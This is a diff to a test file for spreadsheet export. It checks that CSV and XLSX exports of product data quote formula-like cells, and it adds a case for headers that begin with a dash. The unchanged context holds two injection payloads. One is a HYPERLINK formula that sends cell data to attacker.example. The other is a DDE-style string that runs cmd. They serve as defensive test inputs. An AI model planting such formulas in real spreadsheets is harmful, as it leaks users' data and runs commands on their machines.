@@ -5,7 +5,12 @@
 // values read through the API are the originals, quotes of their own included.
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
-import { createEnrichmentCatalog, uniqueCode } from '@pim/db/seed';
+import {
+  addFamilyAttribute,
+  createAttribute,
+  createEnrichmentCatalog,
+  uniqueCode,
+} from '@pim/db/seed';
 import { describe, expect, it } from 'vitest';
 import { dataOf } from './helpers/catalog.ts';
 import { importItems, jobItems } from './helpers/jobs.ts';
@@ -20,6 +25,10 @@ const w = await createTenantWorld({ users: { admin: { home: 'admin' } }, signIn:
 const catalog = await createEnrichmentCatalog(server.db, w.home.id);
 await addTagline(server.db, catalog);
 const home = { token: w.tokens.admin, tenant: w.home.id };
+// Codes may start with '-': a value column named after one is a formula-like header.
+const DASH = `-${uniqueCode('dash')}`;
+const dash = await createAttribute(server.db, w.home.id, { code: DASH, name: 'Dash' });
+await addFamilyAttribute(server.db, catalog.family, dash.id, {});
 
 const LINK = '=HYPERLINK("http://attacker.example/?x="&A2,"Click")';
 const CMD = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -116,6 +125,7 @@ describe.each(['csv', 'xlsx'] as const)('formulas in %s exports', (format) => {
           tagline: [{ channel: 'ecommerce', locale: 'en_US', data: { value: "'@quoted" } }],
           ean: [{ data: { value: ean() } }],
           rating: [{ data: { value: 4.5 } }],
+          [DASH]: [{ data: { value: '-1' } }],
         },
       },
     ]);
@@ -129,6 +139,8 @@ describe.each(['csv', 'xlsx'] as const)('formulas in %s exports', (format) => {
     expect(cellAt(rows, 'code', code, 'name:fr_FR')).toBe(`'${CMD}`);
     expect(cellAt(rows, 'code', code, 'tagline@ecommerce:en_US')).toBe("''@quoted");
     expect(cellAt(rows, 'code', code, 'rating')).toBe('4.5');
+    expect(rows[0]).toContain(`'${DASH}`);
+    expect(cellAt(rows, 'code', code, `'${DASH}`)).toBe('-1');
 
     await importBack('products', format, file, 1);
     expect(await productState(request, home, code)).toEqual(before);
